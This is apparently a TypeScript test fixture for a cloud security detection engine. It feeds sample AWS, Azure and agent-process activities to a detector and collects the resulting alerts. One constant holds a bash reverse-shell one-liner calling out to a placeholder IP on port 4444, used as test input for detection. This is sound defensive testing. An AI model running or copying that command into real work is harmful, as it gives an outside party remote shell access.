import type { RedactedAlert } from '../../../shared/model/redacted-alert'
import { MINUTE } from '../../../shared/model/time'
import { processActivity } from '../../../shared/pipeline/process-activity'
import { agentProcess, awsActivity, azureActivity, NOON, principal } from '../../support/activity'
import { testDetector } from '../../support/detector'

const SHELL = 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'

/** Alerts as the engine itself makes them: both clouds, texts, selectors, services, processes, and an update. */
export const engineAlerts = async (): Promise<readonly RedactedAlert[]> => {
  const detector = testDetector({ knownAdmins: ['nobody'], minSeverity: 'informational', realertMinutes: 1 })
  const activities = [
    awsActivity(),
    awsActivity({ id: 'a2', at: NOON + 2 * MINUTE, payload: { kind: 'text', text: SHELL } }),
    awsActivity({
      id: 'a3',
      at: NOON + 4 * MINUTE,
      targets: {
        kind: 'selected',
        selectors: [{ kind: 'tag', key: 'tag:Env', values: ['prod'] }],
        resolved: null,
        total: null,
      },
    }),
    awsActivity({
      id: 'a4',
      at: NOON + 6 * MINUTE,
      source: { kind: 'service', name: 'events.amazonaws.com' },
      actor: principal({ key: 'aws:service/events.amazonaws.com', kind: 'service', display: 'events.amazonaws.com' }),
    }),
    awsActivity({
      id: 'a5',
      at: NOON + 8 * MINUTE,
      targets: { kind: 'unknown', reason: 'omitted for size' },
      omitted: true,
    }),
    azureActivity({ at: NOON + 10 * MINUTE, source: { kind: 'address', ip: '198.51.100.7' } }),
    agentProcess({ at: NOON + 10 * MINUTE + 30_000 }),
  ]
  for (const activity of activities) await processActivity(detector, activity, 'first')
  return detector.alerts
}
